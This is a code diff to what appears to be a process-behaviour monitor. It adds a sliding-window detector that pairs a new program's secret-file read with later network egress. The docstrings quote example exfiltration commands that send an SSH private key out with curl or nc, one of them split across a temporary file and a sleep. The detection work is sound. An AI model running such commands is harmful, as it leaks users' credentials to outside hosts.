@@ -163,6 +163,8 @@ S_SPREAD_FLOOR = 1.0
 L3_FLOOR = 4.0  # units: a new program or a few new files is not "structural drift"
 # units of a new program's secret read + new egress in one batch (exfil_shape): drift on its own at the floor
 EXFIL_UNITS = L3_FLOOR
+EXFIL_WINDOW_NS = 10 * 10**9  # a new program's secret read pairs with a new program's egress this long after
+MAX_EXFIL_READS = 1024  # secret reads remembered (bound)
 KFOLD = 5
 # Path classifiers are pure functions of a normalised node, asked per open record: cached per node
 NODE_CACHE = 65536
@@ -377,32 +379,59 @@ def structural_novelty(
     return float(len(new_n) - len(own) + between_known + sensitive), new_e, new_n
 
 
+def _new_secret_reads(edges: set[Edge], known_node: Callable[[str], bool]) -> set[str]:
+    return {
+        a for a, b, k in edges if k == "read" and is_secret(a) and b.startswith("exe:") and not known_node(b)
+    }
+
+
+def _new_egress(edges: set[Edge], known_node: Callable[[str], bool]) -> set[str]:
+    return {
+        b
+        for a, b, k in edges
+        if k in ("connect", "send") and b.startswith(("net:inet:", "net:inet6:")) and not known_node(a)
+    }
+
+
 def exfil_shape(edges: set[Edge], known_node: Callable[[str], bool]) -> list[str]:
     """A secret read and a network destination reached by programs the baseline never ran, in one batch.
 
     ``curl --data-binary @~/.ssh/id_rsa http://...``, ``cat key | nc host``: the
     shape of a program started to carry a credential out.  Each half alone is
-    ordinary for a new tool (a new program's endpoint is L4's to judge, its read
-    of a key may be ssh's), so only the pair is drift by itself.  Returns the
-    evidence (the secrets and the endpoints), empty when the batch has no such pair.
+    ordinary for a new tool (a new program's endpoint is L4's to judge), so only
+    the pair is drift by itself.  Returns the evidence (the secrets and the
+    endpoints), empty when the batch has no such pair.  (Monitoring also
+    pairs a send with a read up to EXFIL_WINDOW_NS earlier: :class:`ExfilWindow`.)
     """
-    secrets = sorted(
-        {
-            a
-            for a, b, k in edges
-            if k == "read" and is_secret(a) and b.startswith("exe:") and not known_node(b)
-        }
-    )
-    if not secrets:
-        return []
-    dests = sorted(
-        {
-            b
-            for a, b, k in edges
-            if k in ("connect", "send") and b.startswith(("net:inet:", "net:inet6:")) and not known_node(a)
-        }
-    )
-    return [*secrets, *dests] if dests else []
+    secrets = _new_secret_reads(edges, known_node)
+    dests = _new_egress(edges, known_node) if secrets else set()
+    return [*sorted(secrets), *sorted(dests)] if dests else []
+
+
+class ExfilWindow:
+    """:func:`exfil_shape` over a sliding window: a key read by a new program, sent out a little later.
+
+    ``cat ~/.ssh/id_rsa > /tmp/x; sleep 1; curl -d @/tmp/x ...`` puts the read
+    and the send in two batches; a new program's secret read is remembered for
+    EXFIL_WINDOW_NS and pairs with a new program's egress in any later batch of
+    that window (a read after the send is no exfiltration of it).
+    """
+
+    def __init__(self) -> None:
+        self._reads: deque[tuple[int, str]] = deque()
+
+    def observe(self, t_ns: int, edges: set[Edge], known_node: Callable[[str], bool]) -> list[str]:
+        """The batch ending at ``t_ns``: its shape evidence (secrets read in the window, endpoints now)."""
+        for node in sorted(_new_secret_reads(edges, known_node)):
+            self._reads.append((t_ns, node))
+        while self._reads and (
+            t_ns - self._reads[0][0] > EXFIL_WINDOW_NS or len(self._reads) > MAX_EXFIL_READS
+        ):
+            self._reads.popleft()
+        if not self._reads:
+            return []
+        dests = _new_egress(edges, known_node)
+        return [*sorted({n for _, n in self._reads}), *sorted(dests)] if dests else []
 
 
 class ProcEdge(NamedTuple):
@@ -772,6 +801,7 @@ class CausalChannel(Channel):
         self._order: deque[ProcEdge] = deque()
         self.base_flows: set[tuple[str, str, str]] = set()  # flows (projected) the baseline saw
         self._reported_cycles: set[str] = set()
+        self._exfil = ExfilWindow()
         self.last: dict[str, Any] = {"divergence": 0.0}
         self.syscalls_shipped = 0  # while monitoring: windows the kernel shipped ...
         self.syscalls_known = 0  # ... and known windows it only counted
@@ -919,7 +949,7 @@ class CausalChannel(Channel):
         self.syscalls_shipped += n_shipped
         self.syscalls_known += n_filtered
         s_term = max(0.0, s - self.s_med) / self.s_spread if active else 0.0
-        exfil = exfil_shape(edges, self.base_nodes.__contains__)
+        exfil = self._exfil.observe(int(batch.t1_ns), edges, self.base_nodes.__contains__)
         d = g / self.g_scale + s_term + (EXFIL_UNITS if exfil else 0.0)
         drift = {
             "divergence": round(d, 4),
